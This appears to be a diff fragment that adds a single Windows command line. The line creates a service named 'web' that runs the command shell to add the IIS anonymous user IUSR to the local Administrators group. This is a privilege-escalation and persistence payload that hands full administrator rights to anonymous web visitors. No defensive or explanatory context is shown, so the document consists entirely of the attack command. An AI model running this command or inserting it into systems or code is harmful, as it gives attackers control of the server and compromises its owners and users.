@@ -1,0 +1,1 @@
+sc create web binPath= "%%COMSPEC%% /c net localgroup Administrators IUSR /add"
